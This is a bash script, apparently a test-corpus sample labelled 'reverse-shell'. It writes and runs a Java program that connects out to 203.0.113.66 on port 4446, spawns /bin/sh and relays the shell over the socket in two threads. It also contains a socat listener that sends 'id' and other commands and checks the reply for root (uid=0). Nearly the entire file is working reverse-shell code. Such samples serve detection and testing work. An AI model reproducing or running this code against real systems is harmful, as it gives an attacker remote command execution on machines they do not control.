#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=java,dash far=out ready=out:4446 seconds=22 parts=dns
# A program in Java calls back, starts a shell with pipes and carries what comes and goes between, in two threads.
if [ "$1" = out ]; then (sleep 5; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 30 socat -t 2 - TCP-LISTEN:4446,bind=203.0.113.66,reuseaddr >"$LAB/heard"; exit 0; fi
cat >"$LAB/Agent.java" <<'END'
import java.io.*;
import java.net.*;
public class Agent {
	static void pump(InputStream from, OutputStream to) {
		new Thread(() -> {
			try { byte[] d = new byte[4096]; for (int n; (n = from.read(d)) > 0;) { to.write(d, 0, n); to.flush(); } } catch (IOException e) { }
		}).start();
	}
	public static void main(String[] args) throws Exception {
		Socket s = new Socket("203.0.113.66", 4446);
		Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
		pump(s.getInputStream(), p.getOutputStream());
		pump(p.getInputStream(), s.getOutputStream());
		p.waitFor(); Thread.sleep(500); System.exit(0);
	}
}
END
timeout 20 java "$LAB/Agent.java"; grep -q uid=0 "$LAB/heard"
